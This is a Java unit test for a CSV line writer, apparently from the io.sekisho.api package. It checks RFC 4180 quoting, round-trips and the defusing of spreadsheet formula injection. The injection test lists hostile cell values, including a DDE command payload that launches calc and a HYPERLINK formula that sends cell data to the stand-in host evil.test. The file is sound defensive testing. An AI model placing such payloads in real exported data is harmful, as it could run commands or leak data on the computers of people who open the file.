package io.sekisho.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvLineTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "a      | a",
        "``     | ``",
        "a b    | a b",
        "a,b    | \"a,b\"",
        "a\"b   | \"a\"\"b\"",
        "[\"a\"]| \"[\"\"a\"\"]\"",
        "1.5    | 1.5",
        "it's   | it's"
      })
  void shouldQuoteOnlyWhatNeedsIt(String cell, String written) {
    assertThat(CsvLine.of(List.of(cell))).isEqualTo(written + "\r\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.test/?\"&A1,\"x\")",
        "\uFF1D1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF20x"
      })
  void shouldDefuseWhatASpreadsheetWouldCalculate(String hostile) {
    assertThat(cells(CsvLine.of(List.of("a", hostile)))).containsExactly("a", "'" + hostile);
  }

  @Test
  void shouldComeBackAsItWas() {
    Random random = new Random(3);
    String alphabet = "ab,\"\r\n ';\u00e9";
    for (int i = 0; i < 2_000; i++) {
      List<String> cells = new ArrayList<>();
      for (int k = 0; k <= random.nextInt(4); k++) {
        StringBuilder cell = new StringBuilder("x");
        random
            .ints(random.nextInt(6), 0, alphabet.length())
            .mapToObj(alphabet::charAt)
            .forEach(cell::append);
        cells.add(cell.toString());
      }
      assertThat(cells(CsvLine.of(cells))).isEqualTo(cells);
    }
  }

  /** A plain reading of one line by RFC 4180. */
  private static List<String> cells(String line) {
    List<String> cells = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    assertThat(line).endsWith("\r\n");
    for (int i = 0; i < line.length() - 2; i++) {
      char c = line.charAt(i);
      if (quoted && c == '"' && line.charAt(i + 1) == '"') {
        cell.append(c);
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (c == ',' && !quoted) {
        cells.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    cells.add(cell.toString());
    return cells;
  }
}
